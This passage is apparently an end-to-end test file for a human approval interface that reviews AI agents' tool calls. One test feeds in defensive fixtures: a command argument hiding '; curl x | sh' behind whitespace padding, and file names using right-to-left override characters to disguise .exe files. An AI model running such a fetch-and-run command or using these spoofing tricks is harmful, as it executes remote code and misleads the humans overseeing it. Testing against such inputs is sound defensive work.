    await shoot(page, 'token-prompt', { fullPage: false });
    // Declined, the prompt waits behind the banner; coming back online does not force it.
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await page.locator('#banner', { hasText: 'needs an access token' }).waitFor({ timeout: WAIT });
    const streamsOpened = await page.evaluate(async () => {
      const original = window.fetch;
      let opened = 0;
      window.fetch = (resource, init) => {
        if (new URL(resource, location.href).pathname === '/event') opened += 1;
        return original(resource, init);
      };
      window.dispatchEvent(new Event('online'));
      // A retry would have called fetch before the next task.
      await new Promise((resolve) => setTimeout(resolve, 0));
      window.fetch = original;
      return opened;
    });
    assert.equal(streamsOpened, 0, 'no new stream while it waits for a token');
    assert.equal(await dialog.isVisible(), false, 'the prompt stays closed');
    await page.locator('#banner').getByRole('button', { name: 'Enter token' }).click();
    await dialog.waitFor({ timeout: WAIT });
    await dialog.getByLabel('Access token').fill('not-the-token');
    await dialog.getByRole('button', { name: 'Use token' }).click();
    await dialog.locator('#token-error', { hasText: 'did not accept' }).waitFor({ timeout: WAIT });
    await dialog.getByLabel('Access token').fill(TOKEN);
    await dialog.getByRole('button', { name: 'Use token' }).click();
    await live(page);
    assert.equal(await dialog.isVisible(), false);

    const [, form] = await askShown(page, 'auth');
    await radio(form, /Approve the plan/).check();
    await form.getByRole('button', { name: 'Submit answer' }).click();
    await resolvedAs(form, 'You answered');
    assert.deepEqual(await agent.outcome('auth'), { answers: [['Approve the plan']] });
    // The session's timeline, loaded and streamed with the token, shows the answer too.
    await timelineLive(page);
    await timelineReads(page, ['tl-question: answered by admin Plan Go ahead with the migration plan? Approve the plan']);

    // The token stays for this tab: a reload needs no prompt.
    await page.reload();
    await live(page);
    assert.equal(await dialog.isVisible(), false);
    assert.equal(await page.getByRole('button', { name: 'Forget token' }).isVisible(), true);
    await page.close();
  },

  /** Three tool calls in one approval: approve one, edit one's JSON, reject one with a message. */
  async approval_decisions() {
    const page = await open(URL_OPEN);
    await live(page);
    const [request, review] = await askShown(page, 'approval');
    assert.equal(await review.locator('.kind').textContent(), 'Approval');
    assert.equal(await review.locator('.key').textContent(), 'ui-approval_1');
    const timer = review.locator('.timer');
    const firstReading = await timer.textContent();
    assert.match(firstReading, /^expires in (5:00|4:\d\d)$/);
    assert.equal(await review.getByRole('heading', { level: 2 }).textContent(), 'Allow 3 actions?');

    // The card's session link shows that session and its timeline, where the approval is
    // inside the group of the tool calls it holds back, with a way back to the card.
    await review.getByRole('link', { name: 'session ui-approval' }).click();
    assert.equal(new URL(page.url()).searchParams.get('session'), 'ui-approval');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'timeline-title');
    await timelineLive(page);
    await timelineReads(page, [
      'group running expanded: Send email ˅ Approval: Send email, Execute trade, Delete rows Waiting for your decision. Review it [Approval: Send email, Execute trade, Delete rows / Waiting for your decision. Review it]',
    ]);
    await page.locator('#timeline').getByRole('button', { name: 'Review it' }).click();
    assert.equal(
      await page.evaluate(() => document.activeElement.closest('article')?.dataset.id),
      request.id,
      'the button moves focus into the card',
    );

    // Each action with its description and pretty-printed arguments, and only the
    // decisions its review config allows (send_email has none: every decision).
    const actions = review.locator('fieldset.action-review');
    const [email, trade, rows] = [0, 1, 2].map((index) => actions.nth(index));
    for (const [index, action] of request.action_requests.entries()) {
      const fieldset = actions.nth(index);
      assert.equal(await fieldset.locator('.action-name').textContent(), action.name);
      assert.equal(await fieldset.locator('.action-description').textContent(), action.description);
      assert.equal(await fieldset.locator('pre.json').textContent(), JSON.stringify(action.args, null, 2));
    }
    const offered = (fieldset) => fieldset.getByRole('radio').evaluateAll((radios) => radios.map((radio) => radio.labels[0].textContent));
    assert.deepEqual(await offered(email), ['Approve', 'Edit arguments', 'Reject', 'Respond instead']);
    assert.deepEqual(await offered(trade), ['Approve', 'Edit arguments', 'Reject']);
    assert.deepEqual(await offered(rows), ['Reject', 'Respond instead']);
    assert.equal(await review.getByRole('button', { name: /^Approve/ }).count(), 0, 'no "Approve all": delete_rows may not be approved');

    const send = review.getByRole('button', { name: 'Send decisions' });
    await send.click();
    assert.equal(await review.locator('.card-error').textContent(), 'Check the decision for send_email: choose a decision.');
    // A response instead of the call needs its text.
    await radio(email, 'Respond instead').check();
    await send.click();
    assert.equal(
      await review.locator('.card-error').textContent(),
      'Check the decision for send_email: write the response for the agent.',
    );
    const response = email.getByLabel('Your response (sent to the agent instead of running the tool)');
    assert.equal(await hasFocus(response), true);
    await response.fill('Send it after the release notes are out');
    await radio(rows, 'Reject').check();
    await rows.getByLabel('Message to the agent (optional)').fill('Keep the users table');

    // The JSON editor starts from the arguments, says at once whether its text is valid,
    // and invalid JSON is refused before anything is sent.
    await radio(trade, 'Edit arguments').check();
    const editor = trade.getByLabel('New arguments for execute_trade (JSON)');
    assert.equal(await editor.inputValue(), JSON.stringify(request.action_requests[1].args, null, 2));
    const status = trade.locator('.json-status');
    await editor.fill('{"symbol": "VNM", "quantity": 10,');
    assert.match(await status.textContent(), /^Not valid: invalid JSON: /);
    assert.equal(await editor.getAttribute('aria-invalid'), 'true');
    await send.click();
    assert.match(await review.locator('.card-error').textContent(), /^Check the decision for execute_trade: invalid JSON: /);
    assert.equal(await hasFocus(editor), true);
    await editor.fill('[10]');
    assert.equal(await status.textContent(), 'Not valid: the arguments must be a JSON object { … }');
    await send.click();
    assert.match(await review.locator('.card-error').textContent(), /must be a JSON object/);
    const stillPending = await (await fetch(`${URL_OPEN}/approval/${request.id}`)).json();
    assert.equal(stillPending.status, 'pending', 'nothing was sent');
    await editor.fill('{"symbol": "VNM", "quantity": 10, "side": "buy"}');
    assert.equal(await status.textContent(), 'Valid JSON');
    assert.equal(await editor.getAttribute('aria-invalid'), 'false');
    assert.equal(await review.locator('.card-error').isHidden(), true, 'the stale complaint is gone');
    await until('the countdown to go on', async () => (await timer.textContent()) !== firstReading);
    assert.match(await timer.textContent(), /^expires in 4:\d\d$/);
    await shoot(page, 'approval-desktop');

    await send.click();
    await resolvedAs(review, 'You sent your decision');
    assert.deepEqual(await review.locator('dd').allTextContents(), [
      'Responded: Send it after the release notes are out',
      'Approved with edited arguments: {"symbol":"VNM","quantity":10,"side":"buy"}',
      'Rejected: Keep the users table',
    ]);
    const decisions = {
      decisions: [
        { type: 'respond', message: 'Send it after the release notes are out' },
        { type: 'edit', edited_action: { name: 'execute_trade', args: { symbol: 'VNM', quantity: 10, side: 'buy' } } },
        { type: 'reject', message: 'Keep the users table' },
      ],
    };
    assert.deepEqual(await agent.outcome('approval'), decisions);
    await timelineReads(page, [
      'group running expanded: Send email ˅ Approval: Send email, Execute trade, Delete rows Responded: Send it after the release notes are out; Approved with edited arguments: {"symbol":"VNM","quantity":10,"side":"buy"}; Rejected: Keep the users table decided by local [Approval: Send email, Execute trade, Delete rows / Responded: Send it after the release notes are out; Approved with edited arguments: {"symbol":"VNM","quantity":10,"side":"buy"}; Rejected: Keep the users table / decided by local]',
    ]);
    await page.close();
  },

  /** "Approve all" of two tool calls in one tab; a stale tab's decision then gets a 409. */
  async approval_conflict() {
    const request = await agent.ask('conflict');
    const [page, stale] = await tabsWithStale('?session=ui-conflict', request.id, 1);
    const review = card(page, request.id);
    await review.getByRole('button', { name: 'Approve all: create_branch, open_pull_request', exact: true }).click();
    await resolvedAs(review, 'You sent your decision');
    const approved = ['Approved', 'Approved'];
    assert.deepEqual(await review.locator('dd').allTextContents(), approved);
    assert.deepEqual(await agent.outcome('conflict'), { decisions: [{ type: 'approve' }, { type: 'approve' }] });

    const late = card(stale, request.id);
    await radio(late.locator('fieldset').nth(0), 'Reject').check();
    await radio(late.locator('fieldset').nth(1), 'Approve').check();
    await sendLate(late, 'Send decisions', 'Decided elsewhere');
    assert.deepEqual(await late.locator('dd').allTextContents(), approved);
    for (const tab of [page, stale]) await tab.close();
  },

  /**
   * "Always allow in this session" (refused once by a stubbed 422: the server's message
   * shows): the grant shows in the session's grants (live in a
   * second tab too), the same call asked again is approved by it without a card staying
   * pending, and "Revoke" in one tab removes it from both, so the call asked a third time
   * waits for a human again.
   */
  async standing_grants() {
    const args = { command: 'git status', cwd: '/srv/app' };
    const [page, other] = [await open(URL_OPEN, '?session=ui-grants'), await open(URL_OPEN, '?session=ui-grants')];
    await Promise.all([live(page), live(other)]);
    const grants = (tab) => tab.locator('#grants-list li.grant');
    await page.locator('#grants-empty', { hasText: 'None: every tool call of this session waits for a human.' }).waitFor();

    const [, review] = await askShown(page, 'grant_first');
    assert.match(
      await review.locator('.always-hint').textContent(),
      /until revoked every later identical call of this session: the same tool with the same arguments/,
    );
    const alwaysAllow = review.getByRole('button', { name: 'Always allow in this session: bash', exact: true });
    // A server that refuses `always` (as one sharing its store does): its message is shown,
    // and the card stays for another try.
    const refusal = '`always` is not available when several servers share the store (a grant would live in one of them): approve once';
    const replies = /\/permission\/[^/]+\/reply$/;
    await page.route(replies, (route) =>
      route.fulfill({ status: 422, contentType: 'application/json', body: JSON.stringify({ code: 'invalid_request', message: refusal }) }),
    );
    await alwaysAllow.click();
    await review.locator('.card-error', { hasText: `The server did not accept this decision: ${refusal}` }).waitFor();
    await page.unroute(replies);
    await alwaysAllow.click();
    await resolvedAs(review, 'You sent your decision');
    await review.locator('.grant-line', { hasText: `bash ${JSON.stringify(args)}` }).waitFor();
    await agent.outcome('grant_first');
    for (const tab of [page, other]) {
      await grants(tab).first().waitFor();
      assert.equal(await grants(tab).count(), 1, 'one grant listed');
      const shown = grants(tab).first();
      assert.equal(await shown.locator('.action-name').textContent(), 'bash');
      // Every argument, in full: what stands approved is exactly what the human sees.
      assert.deepEqual(JSON.parse(await shown.locator('pre.json').textContent()), args);
      assert.match(await shown.locator('.grant-meta').textContent(), /granted by local/);
      assert.equal(await tab.locator('#grants-empty').isHidden(), true);
    }

    const second = await agent.ask('grant_second');
    await agent.outcome('grant_second');
    await resolvedAs(card(page, second.id), 'Approved by a standing grant: nobody was asked');
    assert.deepEqual(await shownPending(page), [], 'nothing waits for the human');
    await shoot(page, 'standing-grants');

    await grants(page).first().getByRole('button', { name: 'Revoke: grant of bash', exact: true }).click();
    await page.locator('#grants-status', { hasText: 'Revoked: later calls of bash are asked again.' }).waitFor();
    assert.equal(await grants(page).count(), 0);
    // The other tab learns it from the event stream, without a reload.
    await until('the other tab drops the revoked grant', async () => (await grants(other).count()) === 0);
    const listed = await fetch(`${URL_OPEN}/session/ui-grants/grant`);
    assert.deepEqual(await listed.json(), [], 'the server holds no grant');

    const [third, waiting] = await askShown(page, 'grant_third');
    const status = await (await fetch(`${URL_OPEN}/approval/${third.id}`)).json();
    assert.equal(status.status, 'pending', 'asked again, it waits for a human');
    assert.deepEqual(await shownPending(page), [third.id]);
    await waiting.getByRole('button', { name: 'Approve: bash', exact: true }).click();
    await resolvedAs(waiting, 'You sent your decision');
    await agent.outcome('grant_third');
    for (const tab of [page, other]) await tab.close();
  },

  /**
   * An approval on a phone, with a long session id and long arguments, reached from the
   * timeline and decided with the keyboard alone; the refused call's dot turns red.
   */
  async approval_phone_keyboard() {
    const step = (body) => agent.step(LONG_SESSION, body);
    await step({ type: 'tool_use', id: 'tc-p0', name: 'check_health', input: {} });
    await step({ type: 'tool_use', id: 'tc-p1', name: 'deploy_release', input: {} });
    const page = await open(URL_OPEN, `?session=${LONG_SESSION}`, { viewport: PHONE });
    await live(page);
    await timelineLive(page);
    const [request, review] = await askShown(page, 'phone_approval');
    // One action: the radio is "Approve", the one-click button names what it approves.
    assert.equal(await review.getByRole('radio', { name: 'Approve', exact: true }).count(), 1);
    assert.equal(await review.getByRole('button', { name: 'Approve', exact: true }).count(), 0);
    assert.equal(await review.getByRole('button', { name: 'Approve: deploy_release', exact: true }).count(), 1);
    await assertFits(page);
    await shoot(page, 'approval-phone');

    // The timeline's button leads to the card; a frame arriving meanwhile keeps its focus.
    // `by`: who decided it, the line under the outcome once resolved.
    const group = (health, deploy, outcome, by) => {
      const lines = by ? `${outcome} / ${by}` : outcome;
      return `group running expanded: Deploy release ˅ Check health Deploy release Approval: Deploy release ${by ? `${outcome} ${by}` : outcome} [${health} Check health | ${deploy} Deploy release | Approval: Deploy release / ${lines}]`;
    };
    const waiting = 'Waiting for your decision. Review it';
    await timelineReads(page, [group('pending', 'pending', waiting)]);
    const reviewIt = page.locator('#timeline').getByRole('button', { name: 'Review it: approval of deploy_release', exact: true });
    await reviewIt.focus();
    await step({ type: 'tool_result', tool_use_id: 'tc-p0', name: 'check_health', content: 'healthy' });
    await timelineReads(page, [group('success', 'pending', waiting)]);
    assert.equal(await hasFocus(reviewIt), true, 'the focus survives the new frame');
    await page.keyboard.press('Enter');
    assert.equal(await hasFocus(radio(review, 'Approve')), true, 'the focus is on the first decision');
    await page.keyboard.press('ArrowDown');
    assert.equal(await radio(review, 'Reject').isChecked(), true);
    await page.keyboard.press('Tab');
    assert.equal(await hasFocus(review.getByLabel('Message to the agent (optional)')), true);
    const message = 'Wait for the build sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
    await page.keyboard.type(message);
    await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement.textContent), 'Send decision');
    await page.keyboard.press('Enter');
    await resolvedAs(review, 'You sent your decision');
    assert.equal(await page.evaluate(() => document.activeElement.dataset.id), request.id, 'focus stays on the card');
    assert.deepEqual(await agent.outcome('phone_approval'), { decisions: [{ type: 'reject', message }] });
    await timelineReads(page, [group('success', 'error', `Rejected: ${message}`, 'decided by local')]);
    assert.equal(await review.locator('dd').textContent(), `Rejected: ${message}`);
    await assertFits(page);
    await page.close();
  },

  /**
   * A question and an approval nobody answers: the countdown runs out, both cards say they
   * expired, and the tool call the approval held back gets a red dot.
   */
  async expiry() {
    const session = 'ui-expiry';
    await agent.step(session, { type: 'tool_use', id: 'tc-e1', name: 'restart_service', input: { service: 'api' } });
    const page = await open(URL_OPEN, `?session=${session}`);
    await live(page);
    await timelineLive(page);
    const approval = await agent.ask('expiry_approval');
    const [question, form] = await askShown(page, 'expiry_question');
    const timer = form.locator('.timer');
    assert.equal(await timer.getAttribute('data-state'), 'urgent');
    // Every reading of the countdown until the card resolves.
    await timer.evaluate((element) => {
      window.readings = [element.textContent];
      new MutationObserver(() => window.readings.push(element.textContent)).observe(element, {
        childList: true,
        characterData: true,
        subtree: true,
      });
    });
    await resolvedAs(form, 'Expired: nobody answered in time');
    await resolvedAs(card(page, approval.id), 'Expired: every action was rejected');
    const readings = (await page.evaluate(() => window.readings)).filter(
      (reading, index, all) => reading !== all[index - 1],
    );
    const seconds = readings.map((reading) => (reading === 'time is up' ? 0 : Number(/^expires in 0:0([0-5])$/.exec(reading)?.[1])));
    // The page ticks once a second and the card shows up with seconds to spare, so the
    // countdown is seen to tick at least once; how far it gets before the server's
    // `timed_out` arrives depends on the machine's load, so that is not asserted.
    assert.ok(seconds.length >= 2, `the countdown ticked (${readings})`);
    assert.ok(
      seconds.every((left, index) => left >= 0 && (index === 0 || left < seconds[index - 1])),
      `the countdown went down (${readings})`,
    );
    assert.equal(await timer.isHidden(), true);
    assert.equal(await form.locator('form').isHidden(), true, 'no form left to submit');
    await until('the announcement', async () => (await page.locator('#announcer').textContent()).endsWith('expired.'));
    const expiredQuestion = 'tl-question: Expired: nobody answered in time Rollback Roll back the last deploy?';
    await timelineReads(page, [
      'group done collapsed: Restart service › [error Restart service | Approval: Restart service / Expired: nobody answered in time]',
      expiredQuestion,
    ]);
    // Opened, the group shows the red dot.
    await page.locator('#timeline .group-header').click();
    await timelineReads(page, [
      'group done expanded: Restart service ˅ Restart service Approval: Restart service Expired: nobody answered in time ✓ Done [error Restart service | Approval: Restart service / Expired: nobody answered in time]',
      expiredQuestion,
    ]);
    await shoot(page, 'question-expired');
    assert.deepEqual(await agent.outcome('expiry_question'), { error: { kind: 'timed_out' } });
    assert.deepEqual(await agent.outcome('expiry_approval'), { error: { kind: 'timed_out' } });
    await page.close();
  },

  /** A session's timeline in seed 004's groups: from history, live, and again after a reload. */
  async session_timeline() {
    const session = 'ui-timeline';
    const step = (body) => agent.step(session, body);
    await step({ type: 'user', text: 'How did the market do today?' });
    await step({ type: 'text', text: 'Let me look that up.' });
    await step({ type: 'tool_use', id: 'tc-1', name: 'web_search', input: { query: 'VNINDEX today' } });
    await step({ type: 'tool_result', tool_use_id: 'tc-1', name: 'web_search', content: '10 results' });
    await step({
      type: 'tool_use',
      id: 'tc-2',
      name: 'analyze_price',
      input: { symbol: 'VNINDEX' },
      tool_content_message: 'Analyse VNINDEX prices',
    });

    // The page loads the history, then streams from its last_event_id.
    const histories = [];
    const streamCursors = [];
    const historyCursors = () => Promise.all(histories);
    const watch = (page) => {
      page.on('response', (response) => {
        if (new URL(response.url()).pathname === `/session/${session}/history`) {
          histories.push(response.json().then((body) => body.last_event_id));
        }
      });
      page.on('request', (request) => {
        if (new URL(request.url()).pathname === `/session/${session}/stream`) {
          streamCursors.push(request.headers()['last-event-id']);
        }
      });
    };
    const page = await open(URL_OPEN, `?session=${session}`, { watch });
    await live(page);
    await timelineLive(page);
    assert.equal(await page.locator('#timeline-session').textContent(), session);
    const user = 'tl-user: User How did the market do today?';
    const remark = 'tl-text: Let me look that up.';
    // A running group: expanded, headed by its latest tool, dots green (done) and amber.
    await timelineReads(page, [
      user,
      remark,
      'group running expanded: Analyse VNINDEX prices ˅ Web search Analyse VNINDEX prices [success Web search | pending Analyse VNINDEX prices]',
    ]);
    assert.equal(histories.length, 1);
    assert.deepEqual(streamCursors, await historyCursors(), 'the stream resumed after the history');

    // Live: the second tool fails, its dot turns red.
    await step({ type: 'tool_result', tool_use_id: 'tc-2', name: 'analyze_price', status: 'error', content: 'feed down' });
    await timelineReads(page, [
      user,
      remark,
      'group running expanded: Analyse VNINDEX prices ˅ Web search Analyse VNINDEX prices [success Web search | error Analyse VNINDEX prices]',
    ]);

    // A question closes the group (it collapses, headed by its summary) and is shown
    // outside it; its button leads to the card.
    const question = await agent.ask('timeline_question');
    const firstGroup = 'group done collapsed: Analyse VNINDEX prices › [success Web search | error Analyse VNINDEX prices]';
    await timelineReads(page, [
      user,
      remark,
      firstGroup,
      'tl-question: Waiting for your answer. Answer it Index Which index should the report cover?',
    ]);
    await page.locator('#timeline').getByRole('button', { name: 'Answer it' }).click();
    const form = card(page, question.id);
    assert.equal(await page.evaluate(() => document.activeElement.closest('article')?.dataset.id), question.id);
    await radio(form, /VN30/).check();
    await form.getByRole('button', { name: 'Submit answer' }).click();
    assert.deepEqual(await agent.outcome('timeline_question'), { answers: [['VN30']] });
    const resolvedQuestion = 'tl-question: answered by local Index Which index should the report cover? VN30';
    await timelineReads(page, [user, remark, firstGroup, resolvedQuestion]);

    // The next tool opens a new group; its approval is inside it until decided.
    await step({ type: 'tool_use', id: 'tc-3', name: 'publish_report', input: { title: 'The market today' }, tool_content_message: 'Publish the report' });
    const approval = await agent.ask('timeline_approval');
    await timelineReads(page, [
      user,
      remark,
      firstGroup,
      resolvedQuestion,
      'group running expanded: Publish the report ˅ Publish the report Approval: Publish report Waiting for your decision. Review it [pending Publish the report | Approval: Publish report / Waiting for your decision. Review it]',
    ]);
    await card(page, approval.id).getByRole('button', { name: 'Approve: publish_report', exact: true }).click();
    assert.deepEqual(await agent.outcome('timeline_approval'), { decisions: [{ type: 'approve' }] });
    await step({ type: 'tool_result', tool_use_id: 'tc-3', name: 'publish_report' });
    await step({ type: 'text', text: 'VNINDEX rose 2.69% today.', is_final: true });
    const done = [
      user,
      remark,
      firstGroup,
      resolvedQuestion,
      'group done collapsed: Publish the report › [success Publish the report | Approval: Publish report / Approved / decided by local]',
      'tl-text final: VNINDEX rose 2.69% today.',
    ];
    await timelineReads(page, done);

    // By keyboard: a done group opens with every item and "✓ Done", and closes again.
    const header = page.locator('#timeline .group-header').first();
    await header.focus();
    await page.keyboard.press('Enter');
    await timelineReads(page, [
      user,
      remark,
      'group done expanded: Analyse VNINDEX prices ˅ Web search Analyse VNINDEX prices ✓ Done [success Web search | error Analyse VNINDEX prices]',
      ...done.slice(3),
    ]);
    assert.equal(await hasFocus(header), true, 'focus stays on the header');
    await shoot(page, 'timeline-desktop');
    await page.keyboard.press('Enter');
    await timelineReads(page, done);

    // A reload rebuilds exactly the same timeline from the history, and the stream goes
    // on after it: the next step appears once.
    await page.reload();
    await live(page);
    await timelineLive(page);
    await timelineReads(page, done);
    assert.equal(histories.length, 2);
    assert.deepEqual(streamCursors, await historyCursors(), 'each stream resumed after its history');
    await step({ type: 'user', text: 'Thanks!' });
    await timelineReads(page, [...done, 'tl-user: User Thanks!']);

    await page.setViewportSize(PHONE);
    await assertFits(page);
    await page.locator('#timeline-section').scrollIntoViewIfNeeded();
    await shoot(page, 'timeline-phone', { fullPage: false });
    await page.close();
  },

  /**
   * A session whose stream can never be resumed (trimmed faster than its history loads):
   * each stream answers `server.resync`. The timeline loads the history again at once the
   * first time, then waits longer after each resync in a row, saying it is catching up,
   * instead of loading the history again as fast as the server answers.
   */
  async timeline_resync() {
    const session = 'ui-resync-loop';
    await agent.step(session, { type: 'user', text: 'Keep going.' });
    const loads = [];
    const isStream = (url) => url.pathname === `/session/${session}/stream`;
    const resync = 'data: {"type":"server.resync","properties":{"reason":"cursor_too_old"}}\n\n';
    const watch = async (page) => {
      page.on('request', (request) => {
        if (new URL(request.url()).pathname === `/session/${session}/history`) loads.push(Date.now());
      });
      await page.route(isStream, (route) => route.fulfill({ status: 200, contentType: 'text/event-stream', body: resync }));
    };
    const page = await open(URL_OPEN, `?session=${session}`, { watch });
    await timelineReads(page, ['tl-user: User Keep going.']);
    // Loads at once, at once again, then 1 s and 2 s later: 4 in 4 s (a loop: hundreds).
    await page.waitForTimeout(4000);
    assert.ok(loads.length >= 3 && loads.length <= 5, `${loads.length} loads of the history in 4 s`);
    const waits = loads.slice(1).map((at, index) => at - loads[index]);
    assert.ok(waits[1] >= 900, `the second reload waited ${waits[1]} ms`);
    assert.ok(waits.length < 3 || waits[2] >= 1800, `the third reload waited ${waits[2]} ms`);
    // Meanwhile the timeline shown stays, and says it is catching up.
    await timelineReads(page, ['tl-user: User Keep going.']);
    await until('the timeline to say it catches up', async () =>
      (await page.locator('#timeline-status').textContent()).includes('Catching up'),
    );
    await page.close();
  },

  /**
   * A runaway session: "Reject all pending in this session" asks first, then refuses its
   * questions and approvals in one call; the agent is told no, another session is spared.
   */
  async reject_all() {
    const session = 'ui-reject-all';
    const asked = [];
    for (const key of ['reject_all_q1', 'reject_all_q2', 'reject_all_approval', 'reject_all_locked']) {
      asked.push(await agent.ask(key));
    }
    const other = await agent.ask('reject_all_other');
    const page = await open(URL_OPEN, `?session=${session}`);
    await live(page);
    for (const request of asked) await card(page, request.id).waitFor({ timeout: WAIT });
    assert.equal(await page.locator('#pending-count').textContent(), '4');
    // The human had started on the first question: its card stays, marked, when rejected.
    await radio(card(page, asked[0].id), /Yes/).check();

    const rejectAll = page.getByRole('button', { name: 'Reject all pending in this session…' });
    await rejectAll.click();
    const panel = page.getByRole('group', { name: /^Reject all 4 pending requests of session “ui-reject-all”\?/ });
    await panel.waitFor({ timeout: WAIT });
    assert.equal(await rejectAll.getAttribute('aria-expanded'), 'true');
    const reason = panel.getByLabel('Reason for the agent (optional)');
    assert.equal(await hasFocus(reason), true);
    // One click is not enough: cancelled, nothing was rejected.
    await reason.press('Escape');
    assert.equal(await panel.isHidden(), true);
    assert.equal(await hasFocus(rejectAll), true);
    assert.deepEqual(await serverPending(URL_OPEN, session), [asked[0].id, asked[1].id]);

    await rejectAll.click();
    await reason.fill('Stop, the agent is looping');
    await shoot(page, 'reject-all-confirm', { fullPage: false });
    await panel.getByRole('button', { name: 'Reject all 4', exact: true }).click();
    await until('the rejected cards to leave the list', async () => (await page.locator('article.card').count()) === 1);
    await resolvedAs(card(page, asked[0].id), 'You declined this question');
    await page.locator('#empty', { hasText: `Nothing is waiting for you in session “${session}”.` }).waitFor({ timeout: WAIT });
    assert.equal(await page.locator('#pending-count').textContent(), '0');
    assert.equal(await rejectAll.isHidden(), true, 'nothing left to reject');
    await until('the announcement', async () =>
      (await page.locator('#announcer').textContent()) ===
      `Rejected 3 pending requests of session ${session}. 1 approval that may not be rejected was cancelled.`,
    );
    for (const key of ['reject_all_q1', 'reject_all_q2', 'reject_all_approval', 'reject_all_locked']) {
      await agent.outcome(key);
    }
    assert.deepEqual(await serverPending(URL_OPEN, 'ui-reject-all-other'), [other.id], 'another session is spared');
    await agent.cancel('reject_all_other');
    await page.close();
  },

  /**
   * Bidi overrides and controls from the agent (session id, action name, arguments,
   * question, labels) are shown as marked code points, never obeyed: nothing reorders.
   * The JSON editor keeps them as escapes and sends the very same arguments back.
   */
  async hidden_characters() {
    const page = await open(URL_OPEN, `?session=${encodeURIComponent(HIDDEN_SESSION)}`);
    await live(page);
    const [, review] = await askShown(page, 'hidden_approval');
    const [, form] = await askShown(page, 'hidden_question');
    // The emoji's zero-width joiner joins what shows, and stays: the one exception.
    const text = (await page.evaluate(() => document.body.innerText)).replaceAll(WOMAN_TECHNOLOGIST, '');
    const hidden = /(?![\t\n])(?:\p{Cc}|\p{Cf}|\p{Zl}|\p{Zp}|\p{Default_Ignorable_Code_Point})|\u00a0{16}/u.exec(text);
    assert.equal(hidden, null, `no hidden character reaches the screen: ${JSON.stringify(text.slice(hidden?.index - 40, hidden?.index + 40))}`);

    assert.equal(await review.locator('a.session').textContent(), 'ui-hidden⟨U+202E⟩txt.exe');
    assert.equal(await review.getByRole('heading', { level: 2 }).textContent(), 'Allow open⟨U+202E⟩fdp.exe?');
    assert.equal(await review.locator('.action-name').textContent(), 'open⟨U+202E⟩fdp.exe');
    assert.equal(
      await review.locator('.action-name .hidden-char').getAttribute('title'),
      'U+202E RIGHT-TO-LEFT OVERRIDE',
    );
    assert.equal(
      await review.locator('.action-description').textContent(),
      'Open report⟨U+202E⟩xcod.exe⟨U+0007⟩ for the user⟨U+00AD⟩⟨U+E0041⟩⟨U+E0042⟩⟨U+E0100⟩⟨U+FE00⟩⟨U+034F⟩',
    );
    const padding = '\u00a0'.repeat(40);
    const args = `{\n  "file": "report\\u202excod.exe",\n  "command": "ls${padding}; curl x | sh"\n}`;
    assert.equal(
      await review.locator('pre.json').textContent(),
      args.replace(padding, '⟨U+00A0 × 40⟩'),
      'the padding is one marker, and the command its end',
    );
    const box = await review.locator('pre.json').evaluate((pre) => ({ scroll: pre.scrollHeight, client: pre.clientHeight }));
    assert.ok(box.scroll <= box.client, `the arguments are shown whole, not scrolled: ${JSON.stringify(box)}`);
    assert.equal(
      await form.getByRole('heading', { level: 2 }).textContent(),
      `Rename report⟨U+202E⟩xcod.exe? ${WOMAN_TECHNOLOGIST}`,
    );
    assert.equal(await form.locator('.chip').textContent(), 'Re⟨U+2067⟩name');
    assert.equal(await form.locator('.option-label').first().textContent(), 'Yes⟨U+200F⟩⟨U+202D⟩');
    assert.equal(await page.locator('#session-filter option:checked').textContent(), 'ui-hidden⟨U+202E⟩txt.exe (2)');
    assert.equal(await page.locator('#timeline-session').textContent(), 'ui-hidden⟨U+202E⟩txt.exe');
    await shoot(page, 'hidden-characters');

    // The editor starts from the escaped JSON; unchanged, it sends the arguments as they were.
    await radio(review, 'Edit arguments').check();
    assert.equal(await review.getByLabel(/^New arguments for open/).inputValue(), args);
    await review.getByRole('button', { name: /^Send decision/ }).click();
    await resolvedAs(review, 'You sent your decision');
    assert.deepEqual(await agent.outcome('hidden_approval'), {
      decisions: [{ type: 'edit', edited_action: { name: 'open\u202efdp.exe', args: { file: 'report\u202excod.exe', command: `ls${padding}; curl x | sh` } } }],
    });
    await radio(form, /^Yes/).check();
    await form.getByRole('button', { name: 'Submit answer' }).click();
    await resolvedAs(form, 'You answered');
    assert.deepEqual(await agent.outcome('hidden_question'), { answers: [['Yes\u200f\u202d']] });
    await page.close();
  },

  /**
   * A runaway agent asked 1,000, then 2,000, then 10,000 requests before the page loads:
   * the first card is on screen within a second every time, read a page at a time; then
   * 200 more arrive live without a main-thread task over 200 ms.
   */
  async flood() {
    const lists = [];
    const watch = (page) =>
      page.on('request', (request) => {
        const url = new URL(request.url());
        if (url.pathname === '/question' || url.pathname === '/approval') lists.push(url);
      });
    let flooded = 0;
    const load = async (total) => {
      flooded = (await agent.flood(total - flooded)).total;
      assert.equal(flooded, total);
      const page = await open(URL_FLOOD, '', { watch, init: floodProbe });
      await page.locator('article.card').first().waitFor({ timeout: WAIT });
      const firstCard = await until('the first card time', () => page.evaluate(() => window.floodProbe.firstCard));
      await page.locator('#pending-count', { hasText: new RegExp(`^${total}$`) }).waitFor({ timeout: WAIT });
      floodFigures[`first_card_ms_${total}`] = Math.round(firstCard);
      floodFigures[`longest_task_ms_loading_${total}`] = Math.round(await longestTask(page));
      assert.ok(firstCard < FIRST_CARD_MS, `the first of ${total} cards showed after ${firstCard} ms`);
      return page;
    };
    for (const total of [1000, 2000]) await (await load(total)).close();
    const page = await load(10000);
    assert.equal(await page.locator('article.card').count(), 50, 'one page of cards, not ten thousand');
    assert.ok(lists.length > 0 && lists.every((url) => url.searchParams.get('limit') === '50'), 'every list was read a page at a time');
    assert.equal(await page.locator('#session-filter option').first().textContent(), 'All sessions (10000)');
    assert.equal(await page.locator('#session-filter option').count(), 21);
    assert.equal(await page.locator('#session-filter option[value="ui-flood-07"]').textContent(), 'ui-flood-07 (500)');

    const since = await page.evaluate(() => performance.now());
    await agent.flood(200);
    await page.locator('#pending-count', { hasText: /^10200$/ }).waitFor({ timeout: WAIT });
    assert.equal(await page.locator('#session-filter option[value="ui-flood-07"]').textContent(), 'ui-flood-07 (510)');
    const longest = await longestTask(page, since);
    floodFigures.longest_task_ms_200_live = Math.round(longest);
